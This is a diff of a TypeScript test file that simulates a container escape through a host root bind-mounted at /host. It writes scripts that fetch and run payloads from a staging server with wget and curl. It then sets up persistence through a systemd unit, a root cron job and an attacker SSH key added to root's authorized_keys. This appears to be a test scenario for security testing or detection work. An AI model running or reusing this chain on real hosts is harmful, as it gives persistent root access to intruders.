@@ -17,9 +17,8 @@ const capabilities = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_FOWNER', 'CAP_SETUID
 /** A container as Docker starts one, by the runtime that Docker uses: process, mount, name and IPC namespaces and a control group of its own, the network of the host, and, which is the fault, the host's files at /host. */
 async function runContainer(host: ScenarioHost): Promise<void> {
   const mounts = [
-    { destination: '/proc', type: 'proc', source: 'proc' }, { destination: '/dev', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'mode=755'] },
-    { destination: '/tmp', type: 'tmpfs', source: 'tmpfs', options: ['mode=1777'] }, { destination: '/host', type: 'bind', source: '/', options: ['rbind', 'rw'] },
-  ].filter(({ destination }) => destination !== '/tmp');
+    { destination: '/proc', type: 'proc', source: 'proc' }, { destination: '/dev', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'mode=755'] }, { destination: '/host', type: 'bind', source: '/', options: ['rbind', 'rw'] },
+  ];
   const config = {
     ociVersion: '1.0.2', hostname: 'gallery', root: { path: merged }, mounts,
     process: { cwd: '/', user: { uid: 0, gid: 0 }, env: ['PATH=/bin'], args: ['/bin/httpd', '-f', '-p', '8080', '-h', '/www'], capabilities: { bounding: capabilities, effective: capabilities, permitted: capabilities } },
@@ -50,8 +49,8 @@ describe.skipIf(lacksScenario(['/usr/sbin/runc', '/usr/bin/busybox', '/usr/sbin/
     writeFileSync(join(kit, 'host.sh'), [
       `mkdir -p ${place}`, ...['netd', 'job'].map((name) => `curl -fsS http://${depot}/${name} -o ${place}/${name}`), `chmod 755 ${place}/netd`,
       `printf '[Unit]\\nDescription=Network daemon\\n[Service]\\nExecStart=${place}/netd ${place}/job\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/netd.service`,
-      'export SYSTEMD_IGNORE_CHROOT=1', 'systemctl daemon-reload', 'systemctl enable --now netd.service',
-      `printf '17 3 * * * root ${place}/netd ${place}/job\\n' > /etc/cron.d/netd`, `printf '%s\\n' '${key}' >> /root/.ssh/authorized_keys`, '',
+      'ln -s ../netd.service /etc/systemd/system/multi-user.target.wants/netd.service',
+      `printf '17 3 * * * root ${place}/netd ${place}/job\\n' > /etc/cron.d/netd`, `printf '%s\\n' '${key}' >> /root/.ssh/authorized_keys`, `setsid ${place}/netd ${place}/job > /dev/null 2>&1 < /dev/null &`, '',
     ].join('\n'));
     writeFileSync(join(kit, 'out.sh'), `#!/bin/sh\nwget -q -O /host/tmp/.host.sh http://${depot}/host.sh\nchroot /host /bin/bash /tmp/.host.sh\n`);
     await serveFiles(scene.host, kit);
